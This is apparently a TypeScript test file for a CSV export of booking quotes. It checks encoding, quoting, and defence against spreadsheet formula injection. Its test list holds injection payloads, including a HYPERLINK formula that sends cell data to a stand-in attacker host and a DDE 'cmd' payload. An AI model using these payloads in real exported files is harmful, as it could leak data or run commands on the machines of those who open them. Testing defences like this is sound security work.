// Shows: decisions §5 Calls beyond §7
import type { Quote } from '@ospite/domain';
import { aQuote } from '@ospite/domain/testing';
import { quoteCsv } from './quote-csv';

async function csv(...quotes: Quote[]): Promise<string> {
  async function* source() {
    yield* quotes;
  }
  let text = '';
  for await (const line of quoteCsv(source())) text += line;
  return text;
}

/** Reads RFC 4180 with semicolons, as a spreadsheet would. */
function cells(text: string): string[][] {
  const rows: string[][] = [[]];
  const form = /("(?:[^"]|"")*"|[^;\r\n]*)(;|\r\n)/g;
  for (const [, cell = '', end] of text.slice(1).matchAll(form)) {
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

const cellOf = async (changes: Partial<Quote>, column: string) => {
  const [names = [], values = []] = cells(await csv(aQuote(changes)));
  return values[names.indexOf(column)];
};

it('begins with a mark that tells spreadsheets it is UTF-8, and with the names of the columns', async () => {
  const text = await csv();
  expect(text).toMatch(/^\uFEFFid;createdAt;status;firstName;lastName;email;/);
  expect(text.endsWith('\r\n')).toBe(true);
});

it('has one line for a quote, whatever was typed into it', async () => {
  const specialRequests = 'due bici; "grandi"\r\ne un cane,\nforse';
  const rows = cells(await csv(aQuote({ specialRequests }), aQuote({ id: 8, phone: null })));
  expect(rows).toHaveLength(3);
  expect(rows[1]).toHaveLength(rows[0]?.length ?? 0);
  expect(rows[1]?.slice(0, 6)).toEqual([
    '7',
    '2026-05-01T08:30:00.000Z',
    'pending',
    'Greta',
    'Müller',
    'greta.mueller@example.org',
  ]);
  expect(await cellOf({ specialRequests }, 'specialRequests')).toBe(specialRequests);
  expect(await cellOf({ phone: null }, 'phone')).toBe('');
});

it.each([
  '=1+1',
  '+39 333 1234567',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example?x="&A1;"click")',
  "  =cmd|' /C calc'!A0",
  '\t=1+1',
  '\u00A0=1',
  '＝1+1',
])('keeps %j a text in every spreadsheet', async (text) => {
  for (const column of ['firstName', 'specialRequests', 'notes', 'phone'])
    expect(await cellOf({ [column]: text }, column)).toBe(`'${text}`);
});

it('leaves ordinary texts as they are', async () => {
  for (const text of ['Greta', 'a=b', '3 notti', 'x-y', "d'Angelo"])
    expect(await cellOf({ firstName: text }, 'firstName')).toBe(text);
});
